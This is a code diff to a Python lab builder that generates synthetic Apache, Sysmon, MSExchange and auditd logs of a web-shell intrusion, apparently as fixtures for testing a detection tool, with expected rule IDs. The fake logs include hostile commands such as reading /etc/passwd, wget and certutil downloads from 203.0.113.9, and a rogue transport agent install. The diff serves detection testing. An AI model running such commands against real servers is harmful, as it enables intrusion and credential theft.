@@ -18,8 +18,10 @@ import base64
 import json
 import os
 import sys
+import time
 import zlib
 from pathlib import Path
+from xml.sax.saxutils import escape
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 
@@ -178,6 +180,107 @@ def _sql_catalog() -> str:
     return "".join(json.dumps(row) + "\n" for row in rows)
 
 
+def _access_log() -> str:
+    """Two months of ordinary traffic, then an attacker who finds the upload form, drops
+    thumb.php and drives it with command parameters (combined format, as Apache writes it)."""
+    import random
+
+    rng = random.Random(7)  # deterministic lab
+    pages = ["/", "/index.php?page=about", "/index.php?page=contact", "/contact.php",
+             "/assets/app.js", "/index.php?page=home", "/upload.php"]  # fmt: skip
+    agents = [
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/130.0 Safari/537.36",
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 Version/18.0 Safari",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) Mobile/15E148 Safari/604.1",
+    ]
+    lines = []
+
+    def line(when: int, ip: str, req: str, status: int, size: int, ref: str, agent: str) -> None:
+        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(when))
+        lines.append(f'{ip} - - [{stamp}] "{req}" {status} {size} "{ref}" "{agent}"')
+
+    when = APP_DEPLOYED
+    for _ in range(3000):  # benign visitors
+        when += rng.randint(60, 1900)
+        page = rng.choice(pages)
+        method = "POST" if page == "/contact.php" and rng.random() < 0.3 else "GET"
+        ref = "https://www.example.org/" if rng.random() < 0.7 else "-"
+        ip = f"198.51.100.{rng.randint(2, 250)}"
+        line(when, ip, f"{method} {page} HTTP/1.1", 200, rng.randint(900, 9000), ref,
+             rng.choice(agents))  # fmt: skip
+    attacker = "203.0.113.66"
+    tool = "python-requests/2.31.0"
+    when = INTRUSION - 600
+    line(when, attacker, "GET /upload.php HTTP/1.1", 200, 1450, "-", tool)
+    line(when + 30, attacker, "POST /upload.php HTTP/1.1", 200, 120, "-", tool)
+    for offset, command in enumerate(("id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www",
+                                      "wget+http://203.0.113.9/x+-O+/tmp/x")):  # fmt: skip
+        line(
+            INTRUSION + 60 * offset,
+            attacker,
+            f"POST /uploads/thumb.php?t={command} HTTP/1.1",
+            200,
+            40 + 37 * offset,
+            "-",
+            tool,
+        )
+    line(INTRUSION + 9_000, attacker, "GET /uploads/avatar.gif.php?cmd=whoami HTTP/1.1", 200, 9,
+         "-", tool)  # fmt: skip
+    return "\n".join(lines) + "\n"
+
+
+def _events_xml() -> str:
+    """Exported Windows event records of the IIS/Exchange peer (Sysmon and MSExchange)."""
+    ns = "http://schemas.microsoft.com/win/2004/08/events/event"
+
+    def event(provider: str, channel: str, eid: int, when: str, data: dict[str, str]) -> str:
+        items = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
+        return (
+            f'<Event xmlns="{ns}"><System><Provider Name="{provider}"/><EventID>{eid}</EventID>'
+            f'<TimeCreated SystemTime="{when}"/><Channel>{channel}</Channel><Computer>EXCH01'
+            f"</Computer></System><EventData>{items}</EventData></Event>"
+        )
+
+    sysmon = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
+    w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
+    events = [
+        event(*sysmon, 1, "2026-11-19T02:14:09.000Z", {
+            "ParentImage": w3wp, "Image": "C:\\Windows\\System32\\cmd.exe",
+            "CommandLine": 'cmd.exe /c "whoami /all"', "User": "IIS APPPOOL\\DefaultAppPool"}),
+        event(*sysmon, 1, "2026-11-19T02:15:40.000Z", {
+            "ParentImage": w3wp, "Image": "C:\\Windows\\System32\\certutil.exe",
+            "CommandLine": "certutil -urlcache -f http://203.0.113.9/a.dll "
+                           "C:\\Windows\\Temp\\a.dll",
+            "User": "IIS APPPOOL\\DefaultAppPool"}),
+        event("MSExchange CmdletLogs", "MSExchange Management", 6, "2026-11-19T03:02:00.000Z", {
+            "Cmdlet": "Install-TransportAgent",
+            "Parameters": '-Name "Message Hygiene Agent" -TransportAgentFactory '
+                          "Hygiene.Agents.Factory -AssemblyPath C:\\Program Files\\Microsoft"
+                          "\\Exchange Server\\V15\\Bin\\hygiene.dll"}),
+    ]  # fmt: skip
+    return "<Events>" + "".join(events) + "</Events>\n"
+
+
+def _audit_log() -> str:
+    """auditd execve records: PHP-FPM (www-data) starting a shell that runs id."""
+    base = INTRUSION + 61
+    return (
+        f"type=SYSCALL msg=audit({base}.100:501): arch=c000003e syscall=59 success=yes exit=0 "
+        'ppid=1 pid=811 auid=4294967295 uid=0 euid=0 comm="php-fpm8.2" '
+        'exe="/usr/sbin/php-fpm8.2" key=(null)\n'
+        f'type=EXECVE msg=audit({base}.100:501): argc=1 a0="php-fpm8.2"\n'
+        f"type=SYSCALL msg=audit({base + 1}.200:502): arch=c000003e syscall=59 success=yes "
+        'exit=0 ppid=811 pid=930 auid=4294967295 uid=33 euid=33 comm="sh" '
+        'exe="/usr/bin/dash" key="webexec"\n'
+        f'type=EXECVE msg=audit({base + 1}.200:502): argc=3 a0="sh" a1="-c" a2="id"\n'
+        f"type=SYSCALL msg=audit({base + 1}.300:503): arch=c000003e syscall=59 success=yes "
+        'exit=0 ppid=930 pid=931 auid=4294967295 uid=33 euid=33 comm="id" '
+        'exe="/usr/bin/id" key="webexec"\n'
+        f'type=EXECVE msg=audit({base + 1}.300:503): argc=1 a0="id"\n'
+    )
+
+
 SQL_CATALOG = "collected/sql/mariadb-web1.jsonl"
 APP_DEPLOYED = 1_788_256_800  # 2026-09-01T10:00:00Z
 INTRUSION = 1_795_435_200  # 2026-11-18T10:00:00Z
@@ -201,15 +304,26 @@ def build(out: Path) -> dict[str, object]:
     plugins.mkdir(parents=True, exist_ok=True)
     (lab / "var/lib/mysql").mkdir(parents=True, exist_ok=True)  # the server's datadir
     (plugins / "lib_mysqludf_sys.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 57)
+    for rel, text in (
+        ("var/log/apache2/access.log", _access_log()),
+        ("var/log/audit/audit.log", _audit_log()),
+        ("Windows/System32/winevt/Logs/exported-events.xml", _events_xml()),
+    ):
+        path = lab / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
     catalog = lab / SQL_CATALOG
     catalog.parent.mkdir(parents=True, exist_ok=True)
     catalog.write_text(_sql_catalog(), encoding="utf-8")
-    expected_rules = sorted({r for rules in EXPECTED.values() for r in rules} | SQL_EXPECTED)
+    expected_rules = sorted(
+        {r for rules in EXPECTED.values() for r in rules} | SQL_EXPECTED | LOG_EXPECTED
+    )
     manifest: dict[str, object] = {
         "root": str(lab),
         "sql_catalog": str(catalog),
         "planted_shells": sorted(str(lab / rel) for rel in PLANTED),
         "benign_files": sorted(str(lab / rel) for rel in BENIGN),
+        "top_ranked_uri": "/uploads/thumb.php",
         "expected_rules": expected_rules,
     }
     (out / "planted.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
@@ -218,6 +332,11 @@ def build(out: Path) -> dict[str, object]:
 
 # What the SQL catalog must raise: the mysql.func row, the event calling it, secure_file_priv.
 SQL_EXPECTED = {"SSC-001-020", "SSC-001-022", "SSC-001-024"}
+# What the logs and event records must raise: the ranked shell, its command parameters, the
+# upload before it, the request tied to the flagged file, the server's shell and recon
+# children (Sysmon and auditd), and the transport agent install (MSExchange event 6).
+LOG_EXPECTED = {"SSC-003-200", "SSC-003-201", "SSC-003-203", "SSC-003-210", "SSC-003-250",
+                "SSC-003-251", "SSC-002-200"}  # fmt: skip
 
 
 def main() -> int:
